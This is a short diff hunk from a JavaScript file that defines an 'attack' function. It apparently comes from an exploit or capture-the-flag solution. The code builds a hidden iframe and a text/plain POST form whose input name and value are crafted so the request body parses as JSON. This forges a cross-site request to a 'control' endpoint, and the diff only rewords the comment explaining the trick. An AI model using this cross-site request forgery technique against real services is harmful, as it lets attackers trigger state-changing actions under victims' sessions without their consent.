@@ -38,7 +38,7 @@ globalThis.attack = async (target) => {
   const form = (path, body) => {
     const frame = Object.assign(document.createElement('iframe'), { name: 'answer' });
     const sent = Object.assign(document.createElement('form'), { method: 'post', action: control + path, target: 'answer', enctype: 'text/plain' });
-    // The body is `{"a":"=","advance_seconds":60}` or the like: JSON, but for the sign in it.
+    // The body is `{"advance_seconds": 60,"a":"="}`: the sign of the form is inside a text, so it is JSON.
     sent.append(Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"a":"`, value: '"}' }));
     document.documentElement.append(frame, sent);
     return new Promise((done) => {
